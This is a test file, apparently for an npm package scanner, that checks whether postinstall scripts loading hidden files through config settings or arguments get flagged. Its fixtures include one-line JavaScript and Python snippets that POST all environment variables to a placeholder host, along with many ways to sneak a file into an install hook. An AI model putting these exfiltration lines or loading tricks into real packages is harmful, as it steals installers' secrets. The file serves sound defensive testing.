import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import type { ContentFacts } from '../../src/model/fact.ts'
import { packedReading } from './python-reading.ts'

const SENDS = `fetch('https://c.example/', { method: 'POST', body: JSON.stringify(process.env) })\n`
const PYTHON_SENDS = `import os, urllib.request\nurllib.request.urlopen('https://c.example', data=str(os.environ).encode())\n`

type Files = Readonly<Record<string, string | Buffer>>

async function inspected(manifest: object, files: Files): Promise<ContentFacts> {
  const all = { 'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', ...manifest }), ...files }
  return inspect(await packedReading('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
}

function sendingBy(path: string): string {
  return path.endsWith('.dat') ? PYTHON_SENDS : SENDS
}

/** Commands by which a file of settings has others loaded or run before the program. */
const BY_SETTINGS: readonly (readonly [command: string, settings: Files])[] = [
  ['node --experimental-config-file=c.json ok.js', { 'c.json': '{"nodeOptions":{"import":["./s.txt"]}}' }],
  ['node --experimental-config-file "c.json" ok.js', { 'c.json': '{"nodeOptions":{"require":"./s.txt"}}' }],
  [
    'node --experimental-default-config-file ok.js',
    { 'node.config.json': String.raw`{"nodeOptions":{"import":["./\u0073.txt"]}}` },
  ],
  [
    'NODE_OPTIONS=--experimental-default-config-file node ok.js',
    { 'node.config.json': '{"nodeOptions":{"import":"./s.txt"}}' },
  ],
  [
    'node start.js',
    {
      'start.js': `require('child_process').execSync('node --experimental-default-config-file ok.js')`,
      'node.config.json': '{"nodeOptions":{"import":"./s.txt"}}',
    },
  ],
  ['bun ok.js', { 'bunfig.toml': "preload = ['./s.txt']\n" }],
  ['deno task x', { 'deno.json': '{"tasks":{"x":"deno run -A s.txt"}}' }],
  ['deno task x', { 'deno.jsonc': '{ // all\n"tasks": {"x": {"command": "deno run s.txt",},},}' }],
  ['dotenv -e settings -- node ok.js', { settings: 'NODE_OPTIONS=--require=./s.txt\n' }],
  ['env-cmd -f settings node ok.js', { settings: 'NODE_OPTIONS=--require=./s.txt\n' }],
]

/** Programs that run what the words behind them name. */
const BY_WORDS: readonly (readonly [command: string, sends: string, program: string])[] = [
  ['node run.js ./s.txt', 's.txt', 'require(process.argv[2])'],
  ['node run.js ./s.txt', 's.txt', 'import(process.argv.at(-1))'],
  ['node run.js a s.txt', 's.txt', `for (const f of process.argv.slice(3)) require(require('path').resolve(f))`],
  ['node run.js s.txt', 's.txt', `eval(require('fs').readFileSync(process.argv[2], 'utf8'))`],
  ['node run.js s.txt', 's.txt', `require('child_process').fork(process.argv[2])`],
  ['node run.js s', 's.txt', 'require(`./${process.argv[2]}.txt`)'],
  ['node run.js lib', 'lib/s.txt', 'require(`./${process.argv[2]}/s.txt`)'],
  ['node run.js --file=s.txt', 's.txt', `const { values } = require('util').parseArgs(o); require(values.file)`],
  ['cd lib && node run.js s.txt', 'lib/s.txt', 'require(process.argv[2])'],
  ['sh run.sh s.txt', 's.txt', 'node "$1"'],
  ['sh run.sh node s.txt', 's.txt', 'exec "$@"'],
  ['python3 run.py s.dat', 's.dat', 'import sys\nexec(open(sys.argv[1]).read())'],
]

t.test('what settings and words behind a program name is run', async (t) => {
  for (const [command, settings] of BY_SETTINGS) {
    const { findings } = await inspected(
      { scripts: { postinstall: command } },
      { 's.txt': SENDS, 'ok.js': '', ...settings },
    )
    t.ok(
      findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical'),
      command,
    )
  }
  for (const [command, sends, program] of BY_WORDS) {
    const folder = command.startsWith('cd ') ? 'lib/' : ''
    const files = { [`${folder}${/run\.\w+/.exec(command)?.[0]}`]: `${program}\n`, [sends]: sendingBy(sends) }
    const { findings } = await inspected({ scripts: { postinstall: command } }, files)
    t.ok(
      findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical'),
      `${command}: ${program}`,
    )
  }
})

t.test('what a program only reads, and settings that nobody asks for, run nothing', async (t) => {
  const cases: readonly (readonly [command: string, files: Files])[] = [
    ['node run.js s.txt', { 'run.js': `console.log(require('fs').readFileSync(process.argv[2], 'utf8'))` }],
    ['node run.js s.txt', { 'run.js': `require('./ok.js')(process.argv[2])`, 'ok.js': '' }],
    ['sh run.sh s.txt', { 'run.sh': 'echo "a file"\n' }],
    ['node ok.js', { 'ok.js': '', 'node.config.json': '{"nodeOptions":{"import":["./s.txt"]}}' }],
    ['node ok.js', { 'ok.js': '', 'bunfig.toml': 'preload = ["./s.txt"]' }],
    ['bun ok.js', { 'ok.js': '', 'bunfig.toml': '[install]\nregistry = "https://registry.example"\n' }],
    ['dotenv -- node ok.js', { 'ok.js': '' }],
  ]
  for (const [command, files] of cases) {
    const { surface } = await inspected({ scripts: { postinstall: command } }, { 's.txt': SENDS, ...files })
    t.notOk(
      surface.some(({ path }) => path === 's.txt'),
      command,
    )
  }
})

t.test('what runs by a name that is worked out is found in what that reads, or said to be unread', async (t) => {
  const { findings } = await inspected({ scripts: { postinstall: 'node $(cat n)' } }, { n: 's.txt\n', 's.txt': SENDS })
  t.ok(findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical'))
  const untold = ['node $(x)', 'node `x y`', 'sh $(x)', '$(x)', '`x`', 'eval "$(x)"', 'node "$X"', '$X', 'sh -c "$(x)"']
  for (const command of [...untold, 'node $(x; which node)', 'node %X%', 'X=$(y); node $X']) {
    const facts = await inspected({ scripts: { postinstall: command } }, { 's.txt': SENDS })
    t.ok(
      facts.findings.some(({ check, severity }) => check === 'opaque-program' && severity === 'high'),
      command,
    )
  }
})

t.test('names that npm and systems put in themselves leave nothing unread', async (t) => {
  const told = [
    'node $npm_execpath run x',
    '"$npm_node_execpath" ok.js',
    '$(npm bin)/tool',
    'node $(npm root)/tool/x.js',
    '$(which node) ok.js',
    'node "$(pwd)/ok.js"',
    'node ${X:-ok.js}',
    'node ok.js $X',
    'X=ok.js; node $X',
    'echo $(date)',
    '[ -z "$CI" ] && node ok.js',
    'if [ "$X" ]; then node ok.js; fi',
    'node -e "console.log(`a`)"',
    "node -e \"require('child_process').execSync('true')\"",
    'printf "echo 1" | sh',
  ]
  for (const command of told) {
    const { findings } = await inspected({ scripts: { postinstall: command } }, { 'ok.js': '' })
    t.notOk(
      findings.some(({ check }) => check === 'opaque-program'),
      command,
    )
  }
})
